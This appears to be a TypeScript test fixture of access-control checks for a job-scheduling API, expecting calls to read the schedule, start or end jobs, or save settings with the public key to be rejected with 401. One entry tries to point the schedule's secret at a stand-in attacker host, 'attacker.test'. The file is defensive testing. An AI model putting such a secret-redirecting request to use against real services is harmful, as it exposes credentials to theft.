import { anyUuid, rpcAttack, type Attack } from '#tests/support/oracles/attack.ts';

/** The functions that start jobs and read where secrets are sent, called with the public key. */
export const SCHEDULE_ATTACKS: Attack[] = [
  rpcAttack('read the schedule', 'schedule', () => ({}), 401),
  rpcAttack('start a job', 'start_job', () => ({ job_name: 'sweep' }), 401),
  rpcAttack('end a job', 'end_job', () => ({ lease: anyUuid(), problem: null }), 401),
  rpcAttack(
    'have the secret of the schedule sent elsewhere',
    'save_schedule',
    () => ({ functions_url: 'https://attacker.test', secret: 'x'.repeat(20) }),
    401,
  ),
];
